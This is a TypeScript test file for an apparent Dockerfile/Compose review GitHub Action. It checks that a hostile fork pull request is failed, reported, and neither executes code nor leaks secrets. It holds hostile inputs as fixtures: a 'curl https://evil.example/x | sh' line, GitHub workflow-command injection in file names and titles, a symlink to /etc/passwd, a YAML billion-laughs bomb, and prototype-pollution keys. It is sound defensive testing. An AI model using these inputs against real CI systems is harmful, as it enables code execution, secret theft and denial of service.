/**
 * One pull request from a stranger's fork that tries everything: SECURITY.md tells what it must not achieve. It gets the
 * verdict that the base's policy gives, every attempt is told, nothing executes, nothing leaks.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { summaryMarker } from '../../src/report/marker.ts';
import type { Files } from '../repository.ts';
import { type ActionRun, runAction } from '../runner/action.ts';
import { GitHub } from '../stand-in/server.ts';
import { assertLeavesNothing, everythingSaid } from './outputs.ts';
import { poisoned } from './poisoned.ts';

const policy = 'fail-on: high\ngate: introduced\ncomment-on: medium\ninline-waivers: after-merge\n';
/** A token as GitHub makes them, and a password; of nobody. */
const token = 'ghp_Zq7Xw2Kd9Rf4Tb6Yn1Mc8Vh3Js5Lp0GuEaOi';
const password = 'tr0ub4dor-staple-91';
const until = '2026-12-31';

/** Nine levels of ten: a billion values. */
const bomb = Array.from({ length: 9 }, (_, i) => `x-${i + 1}: &a${i + 1} [${Array(10).fill(`*a${i}`).join(', ')}]`);

const attack: Files = {
  // Its own policy, turned off.
  '.github/layer-review.yml': 'fail-on: never\nseverities: { run-as-root: off }\nfiles: { exclude: ["**"] }\n',
  // A waiver of its own, for what would fail it.
  'waived/Dockerfile': `FROM debian:12\n# layer-review: allow=run-as-root until=${until} reason="trust me"\nUSER root\n`,
  // Instructions that a simpler reader does not see.
  'evasive/Dockerfile': 'FROM debian:12\nUSER 1000\nRUN echo hi \\\\\nUSER root\n',
  'evasive-heredoc/Dockerfile': 'FROM debian:12\nUSER 1000\nRUN x \\<<EOF\nUSER root\n',
  'evasive/compose.yml': 'x-a: &a { "pri\\x76ileged": yes }\nservices:\n  a:\n    <<: *a\n    image: example/a:1\n',
  // Names and texts that want to be more than text.
  '::error::x ##[set-output name=verdict]pass `@team` <img src=x> <!-- .dockerfile':
    'FROM debian:12\nRUN curl https://evil.example/x | sh # ::set-output name=verdict::pass\nUSER root\n',
  'a\nb/Dockerfile': 'FROM debian:12\nUSER root\n',
  [`${'long/'.repeat(700)}Dockerfile`]: 'FROM debian:12\nUSER root\n',
  'names/compose.yml':
    'services:\n  __proto__: { image: a, privileged: true }\n  constructor: { image: b, privileged: true }\n  "\\e[31m::error::red": { image: c }\n',
  // Secrets, to have them repeated.
  'secrets/Dockerfile': `FROM debian:12\nENV API_TOKEN=${token} DB_PASSWORD=${password}\nLABEL x="${token}"\nUSER 1000\n`,
  [`${token}/Dockerfile`]: 'FROM debian:12\nUSER root\n',
  // What lies elsewhere, and what is too much.
  'link/Dockerfile': { symlink: '/etc/passwd' },
  'module/Dockerfile': { submodule: 'a'.repeat(40) },
  'bomb/compose.yml': `x-0: &a0 lol\n${bomb.join('\n')}\nservices: { a: { image: b } }\n`,
  'deep/compose.yml': `a: ${'['.repeat(50_000)}${']'.repeat(50_000)}\n`,
  'circle/compose.yml': 'include: [compose.yml]\nservices: { a: { image: b, extends: { service: a } } }\n',
  'huge/Dockerfile': `FROM debian:12\n${'# padding\n'.repeat(150_000)}`,
  'line/Dockerfile': `FROM debian:12\nRUN ${'a '.repeat(450_000)}\nUSER 1000\n`,
};

describe('a hostile pull request from a fork', () => {
  let github: GitHub;
  let run: ActionRun;
  let said: string;

  before(async () => {
    github = await GitHub.start();
    const from = github.repository.commit('main', {
      'README.md': '# Shop\n',
      '.github/layer-review.yml': policy,
      Dockerfile: 'FROM debian:12\nUSER 1000\n',
    });
    github.repository.commit('mallory:feature', attack, 'Improve', { from });
    github.openPull({
      head: 'mallory:feature',
      title: '::error::[skip layer-review]',
      body: `LGTM\n\n${summaryMarker}`,
    });
    github.as('mallory').comment(1, `**Pass**: no findings.\n\n${summaryMarker}`);
    // With a token that can write, which is what there is to gain.
    run = await runAction({
      github,
      pull: 1,
      event: 'pull_request_target',
      nodeArguments: poisoned,
      timeout: 120_000,
    });
    said = everythingSaid(github, run);
  });
  after(() => github.stop());

  test('gets the verdict that the policy of the base gives', () => {
    assert.equal(run.exitCode, 1);
    assert.equal(run.outputs.verdict, 'error');
    assert.match(
      run.annotations.map(({ message }) => message).join('\n'),
      /could not be reviewed; Compose or the builder refuses \d+ files; and this change introduces \d+ findings of severity high or worse/,
    );
    assert.equal(github.checks(github.pull(1).head.sha)[0]?.conclusion, 'failure');
  });

  test('has each attempt told', () => {
    for (const [what, words] of [
      ['the policy', /edits the policy/],
      ['the waiver', /adds a waiver of .*trust me/],
      ['the evasion', /evasive\/Dockerfile:4/],
      ['the other evasion', /evasive-heredoc\/Dockerfile:4/],
      ['the escaped key', /evasive\/compose\.yml:1.*privileged/],
      ['the link', /link\/Dockerfile.*symlink/],
      ['the submodule', /module\/Dockerfile.*submodule/],
      ['the bomb', /bomb\/compose\.yml/],
      ['the depth', /deep\/compose\.yml.*nesting/],
      ['the circle', /circle\/compose\.yml/],
      ['the size', /huge\/Dockerfile.*MB/],
      ['the odd path', /a\\n?.*b\/Dockerfile.*control characters/],
      ['the long path', /long\/long\/.*root/],
    ] as const)
      assert.match(run.summary, words, what);
    for (const name of ['__proto__', 'constructor']) assert.ok(run.summary.includes(name), name);
  });

  test('is reviewed as far as it can be: the waiver and the policy silence nothing', () => {
    const lines = run.summary.split('\n').filter((line) => line.includes('`run-as-root`'));
    for (const path of ['waived/Dockerfile', 'evasive/Dockerfile', 'evasive-heredoc/Dockerfile'])
      assert.ok(
        lines.some((line) => line.includes(path)),
        path,
      );
  });

  test('executes nothing, and talks to nobody else', () => {
    assert.equal(run.stderr, '');
    assert.deepEqual(run.children, []);
    assert.deepEqual([...new Set(run.connections)], [new URL(github.url).host]);
    assertLeavesNothing(github, run);
    assert.deepEqual(github.violations, []);
  });

  test('gives nothing away', () => {
    // GitHub finds a place by its path, and shows that itself.
    const text = said.replaceAll(`${token}/Dockerfile`, '');
    for (const secret of [token, password]) assert.equal(text.split(secret)[1]?.slice(0, 80), undefined);
  });

  test('starts no command in the log, in either syntax', () => {
    for (const line of run.stdout.split('\n')) {
      assert.doesNotMatch(line, /##\[/);
      const command = /^\s*::([\w-]+)/.exec(line)?.[1];
      assert.ok(command === undefined || ['add-mask', 'error', 'warning', 'notice'].includes(command), line);
    }
    assert.equal(run.masks.length, 2, 'only the token is masked');
  });

  test('leaves the comment of the stranger alone, and says one of our own', () => {
    const authors = github.conversation(1).comments.map(({ author }) => author);
    assert.deepEqual(authors.sort(), ['github-actions[bot]', 'mallory']);
  });

  test('ends within what a review may take', () => {
    assert.ok(run.durationMs < 60_000, `${run.durationMs} ms`);
    assert.ok(github.requests.length < 60, `${github.requests.length} requests`);
  });
});
